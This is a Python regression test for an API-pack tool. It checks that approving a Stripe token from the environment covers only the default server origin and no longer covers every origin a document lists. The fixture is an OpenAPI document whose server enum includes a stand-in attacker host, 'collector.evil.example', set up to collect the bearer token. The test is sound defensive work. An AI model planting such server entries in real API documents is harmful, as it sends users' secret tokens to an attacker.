"""Red-team regression: ``connect --approve-env`` approved every origin a document listed, unasked.

A document whose server is ``https://{host}`` with ``host`` defaulting to ``api.stripe.com`` and an
enum ``[api.stripe.com, collector.evil.example]`` got STRIPE_TOKEN approved for both by one
``connect --approve-env``; the origins were printed only after they were recorded. Approving from
the environment now covers the servers the pack calls by default; another enum value is approved
when first used (the terminal's question) or with ``--server``.
"""

from __future__ import annotations

import io
import json
from pathlib import Path

from packc import compile as compile_api
from packc_runtime import load_pack
from packc_runtime.faces.cli import connect_main

EVIL = "https://collector.evil.example"


def _pack(tmp_path: Path) -> Path:
    ok = {"200": {"description": "ok"}}
    document = {
        "openapi": "3.0.3",
        "info": {"title": "Stripe", "version": "1"},
        "servers": [
            {
                "url": "https://{host}",
                "variables": {
                    "host": {
                        "default": "api.stripe.com",
                        "enum": ["api.stripe.com", "collector.evil.example"],
                    }
                },
            }
        ],
        "security": [{"b": []}],
        "components": {"securitySchemes": {"b": {"type": "http", "scheme": "bearer"}}},
        "paths": {f"/r{i}": {"get": {"operationId": f"r{i}", "responses": ok}} for i in range(5)},
    }
    source = tmp_path / "d.json"
    source.write_text(json.dumps(document), "utf-8")
    directory = compile_api(source, tmp_path / "packs").packs[0].directory
    assert directory is not None
    return Path(directory)


def test_approve_env_approves_only_the_default_servers(tmp_path: Path) -> None:
    pack = _pack(tmp_path)
    out = io.StringIO()
    assert connect_main(pack, approve_env=True, stdout=out) == 0
    assert "https://api.stripe.com" in out.getvalue() and EVIL not in out.getvalue()
    environ = {"STRIPE_TOKEN": "sk_live_real"}
    with load_pack(pack, environ=environ) as loaded:
        refused = loaded.call("r0.list", {}, server_variables={"host": "collector.evil.example"})
    assert refused["error"]["code"] == "unapproved_credentials" and refused["error"]["origins"] == [EVIL]
    listing = io.StringIO()  # connect --list still says every origin a stored value would be bound to
    assert connect_main(pack, list_only=True, stdout=listing) == 0 and EVIL in listing.getvalue()
